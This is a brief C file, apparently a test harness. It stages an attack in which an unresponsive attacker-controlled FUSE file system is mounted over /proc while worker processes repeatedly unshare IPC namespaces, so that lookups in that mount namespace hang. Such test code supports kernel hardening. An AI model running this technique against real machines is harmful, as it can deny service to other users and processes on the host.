// A file system of the attacker's over /proc, which does not answer, then new IPC namespaces: who
// looks for files there, in the attacker's mount namespace, waits.
#include "fuse_files.h"

static void unshare_for_ever(void* unused, int number) {
  (void)unused;
  (void)number;
  while (!time_is_up()) {
    const pid_t pid = fork();
    if (pid == 0) {
      if (unshare(CLONE_NEWIPC) == 0) make_segment(1, 0600);
      _exit(0);
    }
    if (pid > 0) waitpid(pid, NULL, 0);
  }
}

void attack_proc_of_its_own(void) {
  serve_files("/proc", UNANSWERED(FUSE_LOOKUP) | UNANSWERED(FUSE_GETATTR));
  crowd(4, unshare_for_ever, NULL);
  wait_for_crowd();
}
